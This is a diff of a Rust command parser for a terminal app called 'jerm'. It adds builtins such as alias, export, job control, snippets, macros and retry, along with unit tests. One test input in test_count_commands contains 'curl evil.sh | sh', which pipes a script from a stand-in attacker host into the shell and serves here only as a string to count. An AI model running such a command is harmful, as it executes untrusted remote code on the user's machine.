@@ -1,3 +1,33 @@
+//! Splitting an input line into a builtin, a jerm command, or a command
+//! for the system shell
+
+use super::retry::{RetrySpec, DEFAULT_ATTEMPTS};
+use crate::highlight::tokenizer::{TokenType, Tokenizer};
+
+/// What a `jerm snippet` command asks for
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SnippetAction {
+    /// List saved snippets
+    List,
+    /// Save a command under a name
+    Save { name: String, command: String },
+    /// Delete a snippet
+    Remove(String),
+    /// Insert a snippet into the input line
+    Insert(String),
+}
+
+/// What an `alias` command asks for
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum AliasAction {
+    /// List every alias
+    List,
+    /// Show one alias
+    Show(String),
+    /// Define an alias (`alias name='command'`)
+    Set { name: String, command: String },
+}
+
 /// Represents a parsed command
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum ParsedCommand {
@@ -7,14 +37,77 @@ pub enum ParsedCommand {
     Cd(Option<String>),
     /// Special cd -list command to show directory navigator
     CdList,
-    /// Clear the terminal
-    Clear,
+    /// Jump to the most frecent visited directory matching the keywords
+    /// (lists the top directories when there are none)
+    Z(Vec<String>),
+    /// Clear the screen, or with `--hard` the output behind it too
+    Clear { hard: bool },
     /// Exit the terminal
     Exit,
-    /// Save current directory as shortcut
-    JermSave,
-    /// Enter shortcut selection mode
-    JermGoto,
+    /// Define, show, or list aliases
+    Alias(AliasAction),
+    /// Remove an alias (`None` when the name is missing)
+    Unalias(Option<String>),
+    /// Set environment variables for later commands (`None` when the
+    /// assignment is missing)
+    Export(Option<String>),
+    /// Remove environment variables (`None` when the name is missing)
+    Unset(Option<String>),
+    /// List the environment variables
+    Env,
+    /// Save current directory as shortcut, optionally named
+    JermSave(Option<String>),
+    /// Go to a named shortcut, or enter shortcut selection mode
+    JermGoto(Option<String>),
+    /// Remove a shortcut by index or name (`None` when it's missing)
+    JermRm(Option<String>),
+    /// List shortcuts in the output
+    JermList,
+    /// Start recording a macro (`None` when the name is missing)
+    JermRecord(Option<String>),
+    /// Stop recording and save the macro
+    JermStop,
+    /// Play a saved macro, or list macros when no name is given
+    JermPlay(Option<String>),
+    /// Open the block timeline overlay
+    JermTimeline,
+    /// Compare two directories (`None` when the arguments are wrong)
+    JermDiffDir(Option<(String, String)>),
+    /// Suspend the UI and open a plain shell in the current directory
+    JermShell,
+    /// Edit the current directory's note
+    JermNote,
+    /// Show the activity heatmap of the command history
+    JermHeatmap,
+    /// Check the environment and suggest fixes
+    JermDoctor,
+    /// Show local branches with their upstreams
+    JermGitOverview,
+    /// Pick a local branch to check out
+    JermBranch,
+    /// Switch to a profile, or list profiles when no name is given
+    JermProfile(Option<String>),
+    /// Switch to a color theme, or list themes when no name is given
+    JermTheme(Option<String>),
+    /// Browse every installed theme in a preview gallery
+    JermThemePreview,
+    /// Manage or insert saved snippets
+    JermSnippet(SnippetAction),
+    /// Rerun a command until it succeeds (`None` when the command is missing)
+    JermRetry(Option<RetrySpec>),
+    /// Open the test view, with a command in place of the project's own
+    JermTest(Option<String>),
+    /// Run a command in a pseudo-terminal whatever it is (`None` when the
+    /// command is missing)
+    JermPty(Option<String>),
+    /// List background jobs
+    Jobs,
+    /// Bring a job (or the most recent one) to the foreground
+    Fg(Option<usize>),
+    /// Resume a stopped job (or the most recent one) in the background
+    Bg(Option<usize>),
+    /// Shell command to run in the background (trailing `&` removed)
+    Background(String),
     /// Regular shell command to execute
     Shell(String),
 }
@@ -37,14 +130,215 @@ pub fn parse_command(input: &str) -> ParsedCommand {
             Some(path) => ParsedCommand::Cd(Some(path.to_string())),
             None => ParsedCommand::Cd(None),
         },
-        "clear" => ParsedCommand::Clear,
+        "z" => ParsedCommand::Z(
+            args.unwrap_or("")
+                .split_whitespace()
+                .map(str::to_string)
+                .collect(),
+        ),
+        "clear" => ParsedCommand::Clear {
+            hard: args == Some("--hard"),
+        },
         "exit" | "quit" => ParsedCommand::Exit,
-        "jerm" => match args {
-            Some("save") => ParsedCommand::JermSave,
-            Some("goto") => ParsedCommand::JermGoto,
+        "alias" => ParsedCommand::Alias(parse_alias(args)),
+        "unalias" => ParsedCommand::Unalias(args.map(str::to_string)),
+        // In a longer command line they only last for the line, as in sh
+        "export" if count_commands(trimmed) == 1 => ParsedCommand::Export(args.map(str::to_string)),
+        "unset" if count_commands(trimmed) == 1 => ParsedCommand::Unset(args.map(str::to_string)),
+        "env" if args.is_none() => ParsedCommand::Env,
+        "jerm" => parse_jerm(args.unwrap_or(""), trimmed),
+        "jobs" if args.is_none() => ParsedCommand::Jobs,
+        "fg" | "bg" => match parse_job_spec(args) {
+            Some(id) if command == "fg" => ParsedCommand::Fg(id),
+            Some(id) => ParsedCommand::Bg(id),
+            None => ParsedCommand::Shell(trimmed.to_string()),
+        },
+        _ => match trimmed.strip_suffix('&') {
+            Some(rest) if !rest.ends_with('&') && !rest.trim().is_empty() => {
+                ParsedCommand::Background(rest.trim_end().to_string())
+            }
             _ => ParsedCommand::Shell(trimmed.to_string()),
         },
-        _ => ParsedCommand::Shell(trimmed.to_string()),
+    }
+}
+
+/// Parse the arguments of `alias`, taking the quotes off the command
+fn parse_alias(args: Option<&str>) -> AliasAction {
+    let Some(args) = args else {
+        return AliasAction::List;
+    };
+    let Some((name, command)) = args.split_once('=') else {
+        return AliasAction::Show(args.to_string());
+    };
+    let command = ['\'', '"']
+        .iter()
+        .find_map(|&quote| command.strip_prefix(quote)?.strip_suffix(quote))
+        .unwrap_or(command);
+    AliasAction::Set {
+        name: name.trim().to_string(),
+        command: command.to_string(),
+    }
+}
+
+/// Count the commands in an input line
+///
+/// Commands are separated by `;`, `&&`, `||`, and newlines outside quotes.
+/// Empty commands (e.g. a trailing `;`) are not counted.
+pub fn count_commands(input: &str) -> usize {
+    let mut count = 0;
+    let mut in_command = false;
+
+    for token in Tokenizer::tokenize(input) {
+        let separator = match token.token_type {
+            TokenType::Operator => matches!(token.text.as_str(), ";" | "&&" | "||"),
+            TokenType::Whitespace => token.text.contains('\n'),
+            _ => false,
+        };
+        if separator {
+            in_command = false;
+        } else if token.token_type != TokenType::Whitespace && !in_command {
+            in_command = true;
+            count += 1;
+        }
+    }
+
+    count
+}
+
+/// Parse an optional job reference (`%2` or `2`)
+///
+/// Returns `None` when the argument is not a valid job number.
+fn parse_job_spec(args: Option<&str>) -> Option<Option<usize>> {
+    match args {
+        None => Some(None),
+        Some(spec) => spec
+            .strip_prefix('%')
+            .unwrap_or(spec)
+            .parse()
+            .ok()
+            .map(Some),
+    }
+}
+
+/// Parse the arguments of a `jerm` builtin, falling back to a shell command
+fn parse_jerm(args: &str, original: &str) -> ParsedCommand {
+    let mut words = args.split_whitespace();
+    let subcommand = words.next();
+    let rest: Vec<&str> = words.collect();
+
+    match (subcommand, rest.as_slice()) {
+        (Some("save"), []) => ParsedCommand::JermSave(None),
+        (Some("save"), [name]) => ParsedCommand::JermSave(Some((*name).to_string())),
+        (Some("goto"), []) => ParsedCommand::JermGoto(None),
+        (Some("goto"), [name]) => ParsedCommand::JermGoto(Some((*name).to_string())),
+        (Some("rm"), []) => ParsedCommand::JermRm(None),
+        (Some("rm"), [spec]) => ParsedCommand::JermRm(Some((*spec).to_string())),
+        (Some("list"), []) => ParsedCommand::JermList,
+        (Some("record"), []) => ParsedCommand::JermRecord(None),
+        (Some("record"), [name]) => ParsedCommand::JermRecord(Some((*name).to_string())),
+        (Some("stop"), []) => ParsedCommand::JermStop,
+        (Some("timeline"), []) => ParsedCommand::JermTimeline,
+        (Some("shell"), []) => ParsedCommand::JermShell,
+        (Some("note"), []) => ParsedCommand::JermNote,
+        (Some("heatmap"), []) => ParsedCommand::JermHeatmap,
+        (Some("doctor"), []) => ParsedCommand::JermDoctor,
+        (Some("git"), ["overview"]) => ParsedCommand::JermGitOverview,
+        (Some("branch"), []) => ParsedCommand::JermBranch,
+        (Some("diffdir"), [a, b]) => {
+            ParsedCommand::JermDiffDir(Some(((*a).to_string(), (*b).to_string())))
+        }
+        (Some("diffdir"), _) => ParsedCommand::JermDiffDir(None),
+        (Some("profile"), []) => ParsedCommand::JermProfile(None),
+        (Some("profile"), [name]) => ParsedCommand::JermProfile(Some((*name).to_string())),
+        (Some("theme"), []) => ParsedCommand::JermTheme(None),
+        (Some("theme"), ["preview"]) => ParsedCommand::JermThemePreview,
+        (Some("theme"), [name]) => ParsedCommand::JermTheme(Some((*name).to_string())),
+        (Some("play"), []) => ParsedCommand::JermPlay(None),
+        (Some("play"), [name]) => ParsedCommand::JermPlay(Some((*name).to_string())),
+        (Some("snippet"), _) => parse_snippet(args, original),
+        (Some("retry"), _) => ParsedCommand::JermRetry(parse_retry(args)),
+        (Some("test"), []) => ParsedCommand::JermTest(None),
+        // Keep the command's own spacing intact
+        (Some("test"), _) => ParsedCommand::JermTest(Some(skip_words(args, 1).trim().to_string())),
+        (Some("pty"), []) => ParsedCommand::JermPty(None),
+        (Some("pty"), _) => ParsedCommand::JermPty(Some(skip_words(args, 1).trim().to_string())),
+        _ => ParsedCommand::Shell(original.to_string()),
+    }
+}
+
+/// Parse `jerm snippet [save <name> <command> | rm <name> | <name>]`
+fn parse_snippet(args: &str, original: &str) -> ParsedCommand {
+    let words: Vec<&str> = args.split_whitespace().collect();
+    let action = match words.as_slice() {
+        ["snippet"] => SnippetAction::List,
+        ["snippet", "save", name, _, ..] => {
+            // Keep the command's own spacing intact
+            let command = skip_words(args, 3).trim();
+            SnippetAction::Save {
+                name: (*name).to_string(),
+                command: command.to_string(),
+            }
+        }
+        ["snippet", "rm", name] => SnippetAction::Remove((*name).to_string()),
+        ["snippet", name] if *name != "save" && *name != "rm" => {
+            SnippetAction::Insert((*name).to_string())
+        }
+        _ => return ParsedCommand::Shell(original.to_string()),
+    };
+    ParsedCommand::JermSnippet(action)
+}
+
+/// Parse `jerm retry [N] [--backoff] <command>`
+fn parse_retry(args: &str) -> Option<RetrySpec> {
+    let words: Vec<&str> = args.split_whitespace().collect();
+    let mut attempts = None;
+    let mut backoff = false;
+    let mut skipped = 1;
+
+    for word in &words[1..] {
+        match (*word, word.parse::<u32>()) {
+            ("--backoff", _) if !backoff => backoff = true,
+            (_, Ok(n)) if n > 0 && attempts.is_none() => attempts = Some(n),
+            _ => break,
+        }
+        skipped += 1;
+    }
+
+    // Keep the command's own spacing intact
+    let command = skip_words(args, skipped).trim();
+    (!command.is_empty()).then(|| RetrySpec {
+        attempts: attempts.unwrap_or(DEFAULT_ATTEMPTS),
+        backoff,
+        command: command.to_string(),
+    })
+}
+
+/// Drop the first `count` whitespace-separated words from `s`
+fn skip_words(s: &str, count: usize) -> &str {
+    let mut rest = s.trim_start();
+    for _ in 0..count {
+        rest = rest
+            .split_once(char::is_whitespace)
+            .map_or("", |(_, tail)| tail.trim_start());
+    }
+    rest
+}
+
+impl ParsedCommand {
+    /// Whether this command is captured while recording a macro
+    ///
+    /// Interactive and macro-control builtins are left out so playback
+    /// never gets stuck in another mode.
+    pub fn is_recordable(&self) -> bool {
+        matches!(
+            self,
+            ParsedCommand::Cd(_)
+                | ParsedCommand::Z(_)
+                | ParsedCommand::JermSave(_)
+                | ParsedCommand::Background(_)
+                | ParsedCommand::JermRetry(Some(_))
+                | ParsedCommand::Shell(_)
+        )
     }
 }
 
@@ -77,9 +371,62 @@ mod tests {
         assert_eq!(parse_command("cd --list"), ParsedCommand::CdList);
     }
 
+    #[test]
+    fn test_parse_alias() {
+        assert_eq!(
+            parse_command("alias"),
+            ParsedCommand::Alias(AliasAction::List)
+        );
+        assert_eq!(
+            parse_command("alias ll"),
+            ParsedCommand::Alias(AliasAction::Show("ll".to_string()))
+        );
+        assert_eq!(
+            parse_command("alias ll='ls -la'"),
+            ParsedCommand::Alias(AliasAction::Set {
+                name: "ll".to_string(),
+                command: "ls -la".to_string(),
+            })
+        );
+        assert_eq!(
+            parse_command("alias g=\"git status\""),
+            ParsedCommand::Alias(AliasAction::Set {
+                name: "g".to_string(),
+                command: "git status".to_string(),
+            })
+        );
+        assert_eq!(parse_command("unalias"), ParsedCommand::Unalias(None));
+        assert_eq!(
+            parse_command("unalias ll"),
+            ParsedCommand::Unalias(Some("ll".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_parse_env() {
+        assert_eq!(
+            parse_command("export FOO='a b'"),
+            ParsedCommand::Export(Some("FOO='a b'".to_string()))
+        );
+        assert_eq!(parse_command("unset"), ParsedCommand::Unset(None));
+        assert_eq!(parse_command("env"), ParsedCommand::Env);
+        assert_eq!(
+            parse_command("export FOO=1 && make"),
+            ParsedCommand::Shell("export FOO=1 && make".to_string())
+        );
+        assert_eq!(
+            parse_command("env FOO=1 make"),
+            ParsedCommand::Shell("env FOO=1 make".to_string())
+        );
+    }
+
     #[test]
     fn test_parse_clear() {
-        assert_eq!(parse_command("clear"), ParsedCommand::Clear);
+        assert_eq!(parse_command("clear"), ParsedCommand::Clear { hard: false });
+        assert_eq!(
+            parse_command("clear --hard"),
+            ParsedCommand::Clear { hard: true }
+        );
     }
 
     #[test]
@@ -102,12 +449,224 @@ mod tests {
 
     #[test]
     fn test_parse_jerm_save() {
-        assert_eq!(parse_command("jerm save"), ParsedCommand::JermSave);
+        assert_eq!(parse_command("jerm save"), ParsedCommand::JermSave(None));
+        assert_eq!(
+            parse_command("jerm save api"),
+            ParsedCommand::JermSave(Some("api".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_parse_z() {
+        assert_eq!(parse_command("z"), ParsedCommand::Z(vec![]));
+        assert_eq!(
+            parse_command("z src  tui"),
+            ParsedCommand::Z(vec!["src".to_string(), "tui".to_string()])
+        );
+    }
+
+    #[test]
+    fn test_parse_jerm_retry() {
+        let retry = |attempts, backoff, command: &str| {
+            ParsedCommand::JermRetry(Some(RetrySpec {
+                attempts,
+                backoff,
+                command: command.to_string(),
+            }))
+        };
+        assert_eq!(
+            parse_command("jerm retry curl  -sf x"),
+            retry(3, false, "curl  -sf x")
+        );
+        assert_eq!(
+            parse_command("jerm retry 5 make test"),
+            retry(5, false, "make test")
+        );
+        assert_eq!(
+            parse_command("jerm retry --backoff 2 ping -c1 host"),
+            retry(2, true, "ping -c1 host")
+        );
+        assert_eq!(
+            parse_command("jerm retry 0 true"),
+            retry(3, false, "0 true")
+        );
+        assert_eq!(
+            parse_command("jerm retry 4"),
+            ParsedCommand::JermRetry(None)
+        );
+        assert_eq!(parse_command("jerm retry"), ParsedCommand::JermRetry(None));
+    }
+
+    #[test]
+    fn test_parse_jerm_test() {
+        assert_eq!(parse_command("jerm test"), ParsedCommand::JermTest(None));
+        assert_eq!(
+            parse_command("jerm test cargo test  -p core"),
+            ParsedCommand::JermTest(Some("cargo test  -p core".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_parse_jerm_pty() {
+        assert_eq!(parse_command("jerm pty"), ParsedCommand::JermPty(None));
+        assert_eq!(
+            parse_command("jerm pty k9s  --readonly"),
+            ParsedCommand::JermPty(Some("k9s  --readonly".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_parse_jerm_rm_list() {
+        assert_eq!(parse_command("jerm rm"), ParsedCommand::JermRm(None));
+        assert_eq!(
+            parse_command("jerm rm 3"),
+            ParsedCommand::JermRm(Some("3".to_string()))
+        );
+        assert_eq!(parse_command("jerm list"), ParsedCommand::JermList);
     }
 
     #[test]
     fn test_parse_jerm_goto() {
-        assert_eq!(parse_command("jerm goto"), ParsedCommand::JermGoto);
+        assert_eq!(parse_command("jerm goto"), ParsedCommand::JermGoto(None));
+        assert_eq!(
+            parse_command("jerm goto api"),
+            ParsedCommand::JermGoto(Some("api".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_parse_jerm_record_play() {
+        assert_eq!(
+            parse_command("jerm record deploy"),
+            ParsedCommand::JermRecord(Some("deploy".to_string()))
+        );
+        assert_eq!(
+            parse_command("jerm record"),
+            ParsedCommand::JermRecord(None)
+        );
+        assert_eq!(parse_command("jerm stop"), ParsedCommand::JermStop);
+        assert_eq!(
+            parse_command("jerm play deploy"),
+            ParsedCommand::JermPlay(Some("deploy".to_string()))
+        );
+        assert_eq!(parse_command("jerm play"), ParsedCommand::JermPlay(None));
+    }
+
+    #[test]
+    fn test_parse_jerm_timeline() {
+        assert_eq!(parse_command("jerm timeline"), ParsedCommand::JermTimeline);
+        assert_eq!(parse_command("jerm shell"), ParsedCommand::JermShell);
+        assert_eq!(parse_command("jerm note"), ParsedCommand::JermNote);
+        assert_eq!(parse_command("jerm heatmap"), ParsedCommand::JermHeatmap);
+        assert_eq!(
+            parse_command("jerm git overview"),
+            ParsedCommand::JermGitOverview
+        );
+        assert_eq!(parse_command("jerm branch"), ParsedCommand::JermBranch);
+        assert_eq!(parse_command("jerm doctor"), ParsedCommand::JermDoctor);
+        assert_eq!(
+            parse_command("jerm diffdir a ~/b"),
+            ParsedCommand::JermDiffDir(Some(("a".to_string(), "~/b".to_string())))
+        );
+        assert_eq!(
+            parse_command("jerm diffdir a"),
+            ParsedCommand::JermDiffDir(None)
+        );
+    }
+
+    #[test]
+    fn test_parse_jerm_theme() {
+        assert_eq!(parse_command("jerm theme"), ParsedCommand::JermTheme(None));
+        assert_eq!(
+            parse_command("jerm theme light"),
+            ParsedCommand::JermTheme(Some("light".to_string()))
+        );
+        assert_eq!(
+            parse_command("jerm theme preview"),
+            ParsedCommand::JermThemePreview
+        );
+    }
+
+    #[test]
+    fn test_parse_jerm_profile() {
+        assert_eq!(
+            parse_command("jerm profile"),
+            ParsedCommand::JermProfile(None)
+        );
+        assert_eq!(
+            parse_command("jerm profile work"),
+            ParsedCommand::JermProfile(Some("work".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_parse_job_control() {
+        assert_eq!(
+            parse_command("sleep 10 &"),
+            ParsedCommand::Background("sleep 10".to_string())
+        );
+        assert_eq!(
+            parse_command("make&"),
+            ParsedCommand::Background("make".to_string())
+        );
+        assert_eq!(
+            parse_command("make &&"),
+            ParsedCommand::Shell("make &&".to_string())
+        );
+        assert_eq!(parse_command("jobs"), ParsedCommand::Jobs);
+        assert_eq!(parse_command("fg"), ParsedCommand::Fg(None));
+        assert_eq!(parse_command("fg %2"), ParsedCommand::Fg(Some(2)));
+        assert_eq!(parse_command("bg 1"), ParsedCommand::Bg(Some(1)));
+        assert_eq!(
+            parse_command("bg foo"),
+            ParsedCommand::Shell("bg foo".to_string())
+        );
+    }
+
+    #[test]
+    fn test_parse_jerm_snippet() {
+        assert_eq!(
+            parse_command("jerm snippet"),
+            ParsedCommand::JermSnippet(SnippetAction::List)
+        );
+        assert_eq!(
+            parse_command("jerm snippet save logs docker logs  -f {container}"),
+            ParsedCommand::JermSnippet(SnippetAction::Save {
+                name: "logs".to_string(),
+                command: "docker logs  -f {container}".to_string(),
+            })
+        );
+        assert_eq!(
+            parse_command("jerm snippet rm logs"),
+            ParsedCommand::JermSnippet(SnippetAction::Remove("logs".to_string()))
+        );
+        assert_eq!(
+            parse_command("jerm snippet logs"),
+            ParsedCommand::JermSnippet(SnippetAction::Insert("logs".to_string()))
+        );
+        assert_eq!(
+            parse_command("jerm snippet save logs"),
+            ParsedCommand::Shell("jerm snippet save logs".to_string())
+        );
+    }
+
+    #[test]
+    fn test_count_commands() {
+        assert_eq!(count_commands("ls -la"), 1);
+        assert_eq!(count_commands("ls | grep foo"), 1);
+        assert_eq!(count_commands("make && make install"), 2);
+        assert_eq!(count_commands("cd /tmp; ls;"), 2);
+        assert_eq!(count_commands("echo hi\ncurl evil.sh | sh\n"), 2);
+        assert_eq!(count_commands("echo 'a; b'"), 1);
+        assert_eq!(count_commands(""), 0);
+    }
+
+    #[test]
+    fn test_recordable() {
+        assert!(parse_command("ls").is_recordable());
+        assert!(parse_command("cd /tmp").is_recordable());
+        assert!(!parse_command("cd -list").is_recordable());
+        assert!(!parse_command("jerm stop").is_recordable());
     }
 
     #[test]